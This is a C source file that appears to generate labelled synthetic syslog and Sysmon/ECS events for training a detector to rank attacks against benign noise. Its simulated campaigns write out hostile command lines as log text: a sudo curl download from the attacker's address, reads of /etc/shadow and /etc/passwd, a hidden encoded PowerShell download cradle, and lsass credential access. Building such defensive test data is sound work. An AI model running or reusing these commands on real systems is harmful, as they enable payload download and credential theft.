/*
 * scenario.c - seeded, deterministic syslog traffic with ground truth.
 *
 * Benign noise from a few Linux servers (cron, systemd, employees logging in with
 * keys and passwords, the odd typo, admins running sudo, firewall drops, nginx lines
 * over RFC 5424, and the internet's constant background of SSH password guessing,
 * which real servers see all day) plus, when asked, an attack campaign: an SSH
 * brute force from outside that succeeds, followed by sudo to root and tooling.
 *
 * Ground truth: records of an attack campaign are `attack`; everything else,
 * including background guessing that never gets in, is benign noise.  With
 * `variants` the campaign is randomised (source inside or outside, guesses, whether
 * it gets in) and benign look-alikes are added (an employee locked out by typos),
 * which is what the ranking model must learn to tell apart.
 *
 * The SSH campaign then moves laterally: from the compromised host's address, with
 * the stolen account, to one or two other servers, where it runs sudo again.
 * With `endpoint`, more campaigns arrive as JSON lines in real endpoint formats:
 * Sysmon (Windows) EventID 1 `powershell -enc ...` and EventID 10 lsass access
 * (credential dumping) on a workstation, Sysmon EventID 3 connections from an
 * implant to a C2 server at a fixed interval with jitter (beaconing), a web shell
 * (nginx POSTs to /uploads/x.php, then www-data spawning sh, as an ECS process
 * event like auditbeat's), and a port scan (UFW drops from one source to many
 * ports, syslog); benign look-alikes come with them (admins' encoded PowerShell
 * one-liners, a backup agent's periodic connections) so ranking has work to do.
 * Noise follows a daily rhythm: busier in working hours.
 *
 * Same params, same bytes: every choice comes from one splitmix64 stream.
 */
#include "vg_engine.h"

#include <stdlib.h>
#include <string.h>

struct gen {
	uint64_t state;
	struct vg_scenario *sc;
	size_t cap;
	vg_err err;
	const char *campaign; /* set while generating an attack campaign */
};

static uint64_t next_u64(struct gen *g)
{
	uint64_t z = (g->state += UINT64_C(0x9e3779b97f4a7c15));
	z = (z ^ (z >> 30)) * UINT64_C(0xbf58476d1ce4e5b9);
	z = (z ^ (z >> 27)) * UINT64_C(0x94d049bb133111eb);
	return z ^ (z >> 31);
}

/* Uniform in [lo, hi]. */
static int rnd(struct gen *g, int lo, int hi)
{
	return lo + (int)(next_u64(g) % (uint64_t)(hi - lo + 1));
}

static bool chance(struct gen *g, int percent)
{
	return rnd(g, 1, 100) <= percent;
}

static const char *pick(struct gen *g, const char *const *list, size_t n)
{
	return list[next_u64(g) % n];
}
#define PICK(g, arr) pick((g), (arr), sizeof(arr) / sizeof((arr)[0]))

static const char *const g_months[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                       "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
static const char *const g_hosts[] = {"web01", "web02",  "db01",
                                      "app01", "mail01", "ci01"};
_Static_assert(sizeof(g_hosts) / sizeof(g_hosts[0]) == VG_SCENARIO_MAX_HOSTS,
               "VG_SCENARIO_MAX_HOSTS names every generator host");
static const char *const g_staff[] = {"alice", "bob", "carol", "dave", "erin"};
static const char *const g_admins[] = {"alice", "carol"};
static const char *const g_guesses[] = {
    "admin",   "test", "oracle",  "ubuntu", "pi",     "postgres", "user",  "guest",
    "ftpuser", "git",  "support", "root",   "hadoop", "mysql",    "nagios"};
static const char *const g_admin_cmds[] = {
    "/usr/bin/apt-get update", "/usr/bin/systemctl restart nginx",
    "/usr/bin/journalctl -u nginx", "/usr/bin/tail -n 100 /var/log/syslog",
    "/usr/sbin/ufw status"};
static const char *const g_paths[] = {"/",      "/index.html",    "/api/v1/items",
                                      "/login", "/static/app.js", "/healthz"};

/* Append one record: "<PRI>Mmm dd hh:mm:ss host tag[pid]: msg" (RFC 3164) or the
 * RFC 5424 form when rfc5424 is set. */
static void emit(struct gen *g, vg_time ts, bool attack, bool rfc5424, int pri,
                 const char *host, const char *tag, int pid, const char *fmt, ...)
    VG_PRINTF(9, 10);

static void emit(struct gen *g, vg_time ts, bool attack, bool rfc5424, int pri,
                 const char *host, const char *tag, int pid, const char *fmt, ...)
{
	struct vg_buf b;
	char msg[1024];
	va_list ap;
	int mo, d, h, mi, s, us;

	if (g->err)
		return;
	va_start(ap, fmt);
	vsnprintf(msg, sizeof(msg), fmt, ap);
	va_end(ap);
	vg_buf_init(&b);
	vg_time_to_civil(ts, NULL, &mo, &d, &h, &mi, &s, &us);
	if (rfc5424) {
		char t[32];
		vg_time_format(ts, t);
		vg_buf_printf(&b, "<%d>1 %s %s %s %d - - %s", pri, t, host, tag, pid,
		              msg);
	} else if (pid > 0) {
		vg_buf_printf(&b, "<%d>%s %2d %02d:%02d:%02d %s %s[%d]: %s", pri,
		              g_months[mo - 1], d, h, mi, s, host, tag, pid, msg);
	} else {
		vg_buf_printf(&b, "<%d>%s %2d %02d:%02d:%02d %s %s: %s", pri,
		              g_months[mo - 1], d, h, mi, s, host, tag, msg);
	}
	if (b.oom) {
		g->err = VG_ERR_NOMEM;
		vg_buf_free(&b);
		return;
	}
	struct vg_scenario *sc = g->sc;
	if (sc->count == g->cap) {
		size_t ncap = g->cap ? g->cap * 2 : 1024;
		struct vg_scenario_record *nr = realloc(sc->records, ncap * sizeof(*nr));
		if (!nr) {
			g->err = VG_ERR_NOMEM;
			vg_buf_free(&b);
			return;
		}
		sc->records = nr;
		g->cap = ncap;
	}
	sc->records[sc->count++] = (struct vg_scenario_record){
	    b.data, host, attack, ts, false, attack ? g->campaign : NULL};
	sc->attack_records += attack;
}

/* Append one JSON line (endpoint event) built by the caller. */
static void emit_json(struct gen *g, vg_time ts, bool attack, const char *host,
                      struct vg_buf *b)
{
	struct vg_scenario *sc = g->sc;
	if (g->err || b->oom) {
		g->err = g->err ? g->err : VG_ERR_NOMEM;
		vg_buf_free(b);
		return;
	}
	if (sc->count == g->cap) {
		size_t ncap = g->cap ? g->cap * 2 : 1024;
		struct vg_scenario_record *nr = realloc(sc->records, ncap * sizeof(*nr));
		if (!nr) {
			g->err = VG_ERR_NOMEM;
			vg_buf_free(b);
			return;
		}
		sc->records = nr;
		g->cap = ncap;
	}
	sc->records[sc->count++] = (struct vg_scenario_record){
	    b->data, host, attack, ts, true, attack ? g->campaign : NULL};
	sc->attack_records += attack;
	vg_buf_init(b);
}

/* A Sysmon event as a JSON line (the field names of the Windows event). */
static void sysmon(struct gen *g, vg_time ts, bool attack, const char *host, int id,
                   const char *const *kv)
{
	struct vg_buf b;
	char t[32];
	vg_buf_init(&b);
	vg_time_format(ts, t);
	vg_buf_printf(&b,
	              "{\"EventID\":%d,\"Provider_Name\":\"Microsoft-Windows-Sysmon\","
	              "\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
	              "\"Computer\":",
	              id);
	vg_buf_json_str(&b, host, strlen(host));
	vg_buf_puts(&b, ",\"UtcTime\":");
	vg_buf_json_str(&b, t, strlen(t));
	for (size_t i = 0; kv[i]; i += 2) {
		vg_buf_putc(&b, ',');
		vg_buf_json_str(&b, kv[i], strlen(kv[i]));
		vg_buf_putc(&b, ':');
		vg_buf_json_str(&b, kv[i + 1], strlen(kv[i + 1]));
	}
	vg_buf_putc(&b, '}');
	emit_json(g, ts, attack, host, &b);
}

/* An ECS process-start event as a JSON line (auditbeat-like, Linux). */
static void ecs_process(struct gen *g, vg_time ts, bool attack, const char *host,
                        const char *user, const char *exe, const char *cmd,
                        const char *parent)
{
	struct vg_buf b;
	char t[32];
	vg_buf_init(&b);
	vg_time_format(ts, t);
	vg_buf_puts(&b, "{\"@timestamp\":");
	vg_buf_json_str(&b, t, strlen(t));
	vg_buf_puts(&b, ",\"event.module\":\"linux\",\"event.dataset\":\"process\","
	                "\"event.category\":\"process\",\"event.type\":\"start\","
	                "\"host.name\":");
	vg_buf_json_str(&b, host, strlen(host));
	vg_buf_puts(&b, ",\"user.name\":");
	vg_buf_json_str(&b, user, strlen(user));
	vg_buf_puts(&b, ",\"process.executable\":");
	vg_buf_json_str(&b, exe, strlen(exe));
	vg_buf_puts(&b, ",\"process.command_line\":");
	vg_buf_json_str(&b, cmd, strlen(cmd));
	vg_buf_puts(&b, ",\"process.parent.executable\":");
	vg_buf_json_str(&b, parent, strlen(parent));
	vg_buf_putc(&b, '}');
	emit_json(g, ts, attack, host, &b);
}

static vg_time secs(int64_t s)
{
	return s * VG_USEC_PER_SEC;
}

static void ip_internal(struct gen *g, char *buf, size_t n)
{
	snprintf(buf, n, "10.0.%d.%d", rnd(g, 1, 4), rnd(g, 10, 250));
}

static void ip_external(struct gen *g, char *buf, size_t n)
{
	/* Documentation and public ranges; never RFC 1918. */
	static const int firsts[] = {45, 61, 89, 103, 141, 185, 193, 203, 218};
	snprintf(buf, n, "%d.%d.%d.%d", firsts[next_u64(g) % 9], rnd(g, 1, 254),
	         rnd(g, 0, 255), rnd(g, 1, 254));
}

/* An employee's working session: login, maybe sudo, logout. */
static void staff_session(struct gen *g, vg_time t, const char *host, bool typo_burst)
{
	const char *user = PICK(g, g_staff);
	char ip[32];
	int pid = rnd(g, 2000, 60000), port = rnd(g, 40000, 65000);
	bool admin = false;

	ip_internal(g, ip, sizeof(ip));
	for (size_t i = 0; i < sizeof(g_admins) / sizeof(g_admins[0]); i++)
		admin |= !strcmp(user, g_admins[i]);
	int typos = typo_burst ? rnd(g, 10, 16) : (chance(g, 15) ? rnd(g, 1, 2) : 0);
	for (int i = 0; i < typos; i++) {
		emit(g, t, false, false, 38, host, "sshd", pid,
		     "Failed password for %s from %s port %d ssh2", user, ip, port);
		t += secs(rnd(g, 2, 9));
	}
	if (typos || chance(g, 40))
		emit(g, t, false, false, 38, host, "sshd", pid,
		     "Accepted password for %s from %s port %d ssh2", user, ip, port);
	else
		emit(g, t, false, false, 38, host, "sshd", pid,
		     "Accepted publickey for %s from %s port %d ssh2: ED25519 "
		     "SHA256:%016llx",
		     user, ip, port, (unsigned long long)next_u64(g));
	emit(g, t, false, false, 86, host, "sshd", pid,
	     "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)",
	     user, 1000 + (int)(user[0] - 'a'));
	t += secs(rnd(g, 20, 600));
	if (admin && chance(g, 70)) {
		emit(g, t, false, false, 85, host, "sudo", 0,
		     "%8s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s", user,
		     rnd(g, 0, 4), user, PICK(g, g_admin_cmds));
		t += secs(rnd(g, 5, 300));
	}
	emit(g, t, false, false, 38, host, "sshd", pid,
	     "Disconnected from user %s %s port %d", user, ip, port);
}

/* Background SSH password guessing from the internet: a few tries, never in. */
static void internet_guessing(struct gen *g, vg_time t, const char *host)
{
	char ip[32];
	int tries = rnd(g, 1, 6), pid = rnd(g, 2000, 60000);
	ip_external(g, ip, sizeof(ip));
	for (int i = 0; i < tries; i++) {
		const char *u = PICK(g, g_guesses);
		int port = rnd(g, 30000, 65000);
		if (strcmp(u, "root") != 0)
			emit(g, t, false, false, 38, host, "sshd", pid,
			     "Invalid user %s from %s port %d", u, ip, port);
		emit(g, t, false, false, 38, host, "sshd", pid,
		     "Failed password for %s%s from %s port %d ssh2",
		     strcmp(u, "root") ? "invalid user " : "", u, ip, port);
		t += secs(rnd(g, 1, 20));
	}
}

static void host_hour(struct gen *g, vg_time hour_start, const char *host,
                      int hour_of_day)
{
	bool working = hour_of_day >= 8 && hour_of_day < 19;
	bool web = !strcmp(host, "app01") || !strncmp(host, "web", 3);
	/* Jobs every ten minutes, the hourly run-parts on the hour. */
	for (int m = 0; m < 60; m += 10)
		emit(g, hour_start + secs(m * 60 + 1), false, false, 78, host, "CRON",
		     rnd(g, 1000, 30000), "(root) CMD (%s)",
		     m == 0 ? "   cd / && run-parts --report /etc/cron.hourly"
		            : "command -v debian-sa1 > /dev/null && debian-sa1 1 1");
	int sessions = working ? rnd(g, 1, 3) : (chance(g, 20) ? 1 : 0);
	for (int i = 0; i < sessions; i++)
		staff_session(g, hour_start + secs(rnd(g, 60, 3000)), host, false);
	int guessers = rnd(g, 0, 2);
	for (int i = 0; i < guessers; i++)
		internet_guessing(g, hour_start + secs(rnd(g, 0, 3500)), host);
	int drops = rnd(g, 5, 20);
	for (int i = 0; i < drops; i++) {
		char src[32];
		ip_external(g, src, sizeof(src));
		emit(g, hour_start + secs(rnd(g, 0, 3599)), false, false, 4, host,
		     "kernel", 0,
		     "[UFW BLOCK] IN=eth0 OUT= SRC=%s DST=10.0.0.%d LEN=44 PROTO=TCP "
		     "SPT=%d DPT=%d",
		     src, rnd(g, 10, 20), rnd(g, 1024, 65000), chance(g, 50) ? 23 : 3389);
	}
	int units = rnd(g, 1, 3);
	for (int i = 0; i < units; i++)
		emit(g, hour_start + secs(rnd(g, 0, 3599)), false, false, 30, host,
		     "systemd", 1, "%s",
		     chance(g, 50) ? "Started Daily apt download activities."
		                   : "Finished Clean php session files.");
	if (web) {
		int reqs = working ? rnd(g, 20, 60) : rnd(g, 2, 10);
		for (int i = 0; i < reqs; i++) {
			char ip[32];
			ip_internal(g, ip, sizeof(ip));
			emit(g, hour_start + secs(rnd(g, 0, 3599)), false, true, 190,
			     host, "nginx", rnd(g, 100, 999),
			     "%s - - \"GET %s HTTP/1.1\" %d %d", ip, PICK(g, g_paths),
			     chance(g, 95) ? 200 : 404, rnd(g, 200, 9000));
		}
	}
}

static const char *const g_workstations[] = {"ws01", "ws02", "ws03"};
static const char *const g_host_ips[] = {"10.0.0.11", "10.0.0.12", "10.0.0.13",
                                         "10.0.0.14", "10.0.0.15", "10.0.0.16"};

static int host_index(const char *host)
{
	for (size_t i = 0; i < sizeof(g_hosts) / sizeof(g_hosts[0]); i++)
		if (!strcmp(g_hosts[i], host))
			return (int)i;
	return 0;
}

/* Servers' own addresses (what another server's sshd logs as the source). */
static const char *host_ip(const char *host)
{
	return g_host_ips[host_index(host)];
}

/* The attack: brute force -> login -> sudo to root -> tooling -> lateral moves. */
static void campaign(struct gen *g, vg_time t, const char *host, bool vary, int nhosts)
{
	g->campaign = "ssh";
	char ip[32];
	const char *user = "deploy";
	int pid = rnd(g, 2000, 60000);
	int guesses = vary ? rnd(g, 12, 80) : 40;
	bool inside = vary && chance(g, 20);
	bool gets_in = !vary || chance(g, 85);

	if (inside)
		ip_internal(g, ip, sizeof(ip));
	else if (vary)
		ip_external(g, ip, sizeof(ip));
	else
		snprintf(ip, sizeof(ip), "203.0.113.45");
	for (int i = 0; i < guesses; i++) {
		const char *u = i % 7 == 6 ? user : PICK(g, g_guesses);
		int port = rnd(g, 30000, 65000);
		bool invalid = strcmp(u, "root") && strcmp(u, user);
		if (invalid)
			emit(g, t, true, false, 38, host, "sshd", pid,
			     "Invalid user %s from %s port %d", u, ip, port);
		emit(g, t, true, false, 38, host, "sshd", pid,
		     "Failed password for %s%s from %s port %d ssh2",
		     invalid ? "invalid user " : "", u, ip, port);
		t += secs(rnd(g, 1, 4));
	}
	if (!gets_in) {
		g->campaign = NULL;
		return;
	}
	int port = rnd(g, 30000, 65000);
	t += secs(rnd(g, 5, 60));
	emit(g, t, true, false, 38, host, "sshd", pid,
	     "Accepted password for %s from %s port %d ssh2", user, ip, port);
	emit(g, t, true, false, 86, host, "sshd", pid,
	     "pam_unix(sshd:session): session opened for user %s(uid=1001) by (uid=0)",
	     user);
	t += secs(rnd(g, 30, 240));
	emit(g, t, true, false, 85, host, "sudo", 0,
	     "  %s : TTY=pts/1 ; PWD=/home/%s ; USER=root ; COMMAND=/bin/bash", user,
	     user);
	t += secs(rnd(g, 10, 120));
	emit(
	    g, t, true, false, 85, host, "sudo", 0,
	    "  %s : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -so /tmp/.x "
	    "http://%s/x",
	    user, ip);
	/* Lateral movement: from this host's address, with the stolen account. */
	int hops = vary ? rnd(g, 0, 2) : 2;
	const char *from_ip = host_ip(host);
	for (int h = 0, k = 0; h < hops && k < nhosts; k++) {
		const char *to = g_hosts[(host_index(host) + 1 + k) % nhosts];
		if (!strcmp(to, host))
			continue;
		int p2 = rnd(g, 2000, 60000), port2 = rnd(g, 30000, 65000);
		t += secs(rnd(g, 120, 900));
		emit(g, t, true, false, 38, to, "sshd", p2,
		     "Accepted password for %s from %s port %d ssh2", user, from_ip,
		     port2);
		emit(g, t, true, false, 86, to, "sshd", p2,
		     "pam_unix(sshd:session): session opened for user %s(uid=1001) by "
		     "(uid=0)",
		     user);
		t += secs(rnd(g, 20, 180));
		emit(g, t, true, false, 85, to, "sudo", 0,
		     "  %s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=/bin/cat "
		     "/etc/shadow",
		     user, user);
		h++;
	}
}

/* Common Log Format time: "20/Nov/2026:14:00:00 +0000". */
static void clf_time(vg_time t, char out[40])
{
	int y, mo, d, h, mi, s;
	vg_time_to_civil(t, &y, &mo, &d, &h, &mi, &s, NULL);
	snprintf(out, 40, "%02d/%s/%04d:%02d:%02d:%02d +0000", d, g_months[mo - 1], y, h,
	         mi, s);
}

/* Encoded PowerShell, then lsass memory read (credential dumping) on a Windows
 * workstation, then an implant that beacons to its C2 server. */
static void endpoint_campaign(struct gen *g, vg_time t, bool vary)
{
	const char *ws = vary ? PICK(g, g_workstations) : "ws01";
	char c2[32], user[64], cmd[256], pid[16], ppid[16];
	int interval = vary ? rnd(g, 30, 300) : 60;
	int beacons = vary ? rnd(g, 8, 40) : 30;

	ip_external(g, c2, sizeof(c2));
	snprintf(user, sizeof(user), "CORP\\%s", PICK(g, g_staff));
	snprintf(pid, sizeof(pid), "%d", rnd(g, 1000, 9000));
	snprintf(ppid, sizeof(ppid), "%d", rnd(g, 1000, 9000));
	g->campaign = "endpoint";
	snprintf(
	    cmd, sizeof(cmd),
	    "powershell.exe -nop -w hidden -enc "
	    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABp%04x",
	    (unsigned)rnd(g, 0, 0xffff));
	const char *e1[] = {
	    "Image",
	    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	    "CommandLine",
	    cmd,
	    "ParentImage",
	    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
	    "User",
	    user,
	    "ProcessId",
	    pid,
	    NULL};
	sysmon(g, t, true, ws, 1, e1);
	t += secs(rnd(g, 30, 300));
	const char *e10[] = {"SourceImage",
	                     "C:\\Users\\Public\\svchost.exe",
	                     "TargetImage",
	                     "C:\\Windows\\System32\\lsass.exe",
	                     "GrantedAccess",
	                     "0x1010",
	                     "User",
	                     user,
	                     NULL};
	sysmon(g, t, true, ws, 10, e10);
	for (int i = 0; i < beacons; i++) {
		char port[8];
		t += secs(interval + rnd(g, -interval / 10, interval / 10));
		snprintf(port, sizeof(port), "%d", rnd(g, 49152, 65535));
		const char *e3[] = {"Image",
		                    "C:\\Users\\Public\\svchost.exe",
		                    "User",
		                    user,
		                    "Protocol",
		                    "tcp",
		                    "SourceIp",
		                    "10.0.5.21",
		                    "SourcePort",
		                    port,
		                    "DestinationIp",
		                    c2,
		                    "DestinationPort",
		                    "443",
		                    NULL};
		sysmon(g, t, true, ws, 3, e3);
	}
	g->campaign = NULL;
}

/* A web shell: POSTs to an uploaded PHP file, then the web server's user runs a
 * shell; the attacker then scans from outside (UFW drops to many ports). */
static void webshell_campaign(struct gen *g, vg_time t, const char *host, bool vary)
{
	char ip[32];
	ip_external(g, ip, sizeof(ip));
	g->campaign = "webshell";
	int posts = vary ? rnd(g, 1, 5) : 3;
	for (int i = 0; i < posts; i++) {
		char clf[40];
		clf_time(t, clf);
		emit(g, t, true, true, 190, host, "nginx", rnd(g, 100, 999),
		     "%s - - [%s] \"POST /uploads/x.php HTTP/1.1\" 200 %d \"-\" "
		     "\"python-requests/2.31\"",
		     ip, clf, rnd(g, 20, 400));
		ecs_process(g, t + secs(1), true, host, "www-data", "/bin/sh",
		            i == 0 ? "sh -c id" : "sh -c uname -a; cat /etc/passwd",
		            "/usr/sbin/php-fpm8.2");
		t += secs(rnd(g, 20, 120));
	}
	g->campaign = "portscan";
	int ports = vary ? rnd(g, 25, 200) : 120;
	char scanner[32];
	ip_external(g, scanner, sizeof(scanner));
	for (int i = 0; i < ports; i++) {
		emit(g, t, true, false, 4, host, "kernel", 0,
		     "[UFW BLOCK] IN=eth0 OUT= SRC=%s DST=%s LEN=44 PROTO=TCP SPT=%d "
		     "DPT=%d",
		     scanner, host_ip(host), rnd(g, 30000, 65000), 1 + i * 37 % 10000);
		t += secs(rnd(g, 0, 1));
	}
	g->campaign = NULL;
}

/* Benign look-alikes of the endpoint campaigns: an admin's encoded one-liner,
 * a backup agent phoning home every few minutes. */
static void endpoint_noise(struct gen *g, vg_time hs, int hod)
{
	bool working = hod >= 8 && hod < 19;
	const char *ws = PICK(g, g_workstations);
	if (working && chance(g, 10)) {
		const char *e1[] = {
		    "Image",
		    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
		    "CommandLine",
		    "powershell.exe -NoProfile -enc RwBlAHQALQBTAGUAcgB2AGkAYwBlAA==",
		    "ParentImage",
		    "C:\\Windows\\System32\\svchost.exe",
		    "User",
		    "CORP\\itadmin",
		    NULL};
		sysmon(g, hs + secs(rnd(g, 0, 3599)), false, ws, 1, e1);
	}
	for (int m = 0; m < 60; m += 15) {
		const char *e3[] = {"Image",
		                    "C:\\Program Files\\Backup\\agent.exe",
		                    "User",
		                    "NT AUTHORITY\\SYSTEM",
		                    "Protocol",
		                    "tcp",
		                    "DestinationIp",
		                    "10.0.9.5",
		                    "DestinationPort",
		                    "8443",
		                    NULL};
		sysmon(g, hs + secs(m * 60 + rnd(g, 0, 30)), false, ws, 3, e3);
	}
}

static int cmp_records(const void *a, const void *b)
{
	const struct vg_scenario_record *x = a, *y = b;
	if (x->ts != y->ts)
		return x->ts < y->ts ? -1 : 1;
	/* Stable for equal times: keep generation order (lines are distinct pointers
	 * allocated in order, but compare content for a total, portable order). */
	return strcmp(x->line, y->line);
}

vg_err vg_scenario_generate(const struct vg_scenario_params *params,
                            struct vg_scenario *out)
{
	struct gen g = {params->seed ^ UINT64_C(0x5eed), out, 0, VG_OK, NULL};
	int hosts = params->hosts > 0 ? params->hosts : 3;
	int hours = params->hours > 0 ? params->hours : 6;

	memset(out, 0, sizeof(*out));
	if (hosts > (int)(sizeof(g_hosts) / sizeof(g_hosts[0])))
		hosts = (int)(sizeof(g_hosts) / sizeof(g_hosts[0]));
	for (int h = 0; h < hours; h++) {
		vg_time hs = params->start + secs((int64_t)h * 3600);
		int hod;
		vg_time_to_civil(hs, NULL, NULL, NULL, &hod, NULL, NULL, NULL);
		for (int i = 0; i < hosts; i++)
			host_hour(&g, hs, g_hosts[i], hod);
		if (params->variants && chance(&g, 25))
			staff_session(&g, hs + secs(rnd(&g, 60, 3000)),
			              g_hosts[rnd(&g, 0, hosts - 1)], true);
		if (params->endpoint)
			endpoint_noise(&g, hs, hod);
	}
	if (params->attack) {
		int campaigns = params->variants ? rnd(&g, 1, 2) : 1;
		for (int c = 0; c < campaigns; c++) {
			vg_time t =
			    params->start + (params->variants
			                         ? secs(rnd(&g, 600, hours * 3600 - 1800))
			                         : secs((int64_t)hours * 3600 / 2 + 17));
			campaign(&g, t,
			         params->variants ? g_hosts[rnd(&g, 0, hosts - 1)]
			                          : "web01",
			         params->variants, hosts);
			g.campaign = NULL;
			out->campaigns++;
		}
	}
	if (params->attack && params->endpoint) {
		vg_time span = (vg_time)hours * 3600;
		if (!params->variants || chance(&g, 70)) {
			endpoint_campaign(&g,
			                  params->start +
			                      secs(params->variants
			                               ? rnd(&g, 600, (int)span - 3600)
			                               : span / 3),
			                  params->variants);
			out->campaigns++;
		}
		if (!params->variants || chance(&g, 60)) {
			webshell_campaign(
			    &g,
			    params->start + secs(params->variants
			                             ? rnd(&g, 600, (int)span - 1800)
			                             : span * 2 / 3),
			    params->variants ? g_hosts[rnd(&g, 0, hosts - 1)] : "web02",
			    params->variants);
			out->campaigns++;
		}
	}
	if (g.err) {
		vg_scenario_free(out);
		return g.err;
	}
	qsort(out->records, out->count, sizeof(*out->records), cmp_records);
	return VG_OK;
}

void vg_scenario_free(struct vg_scenario *sc)
{
	if (!sc)
		return;
	for (size_t i = 0; i < sc->count; i++)
		free(sc->records[i].line);
	free(sc->records);
	memset(sc, 0, sizeof(*sc));
}
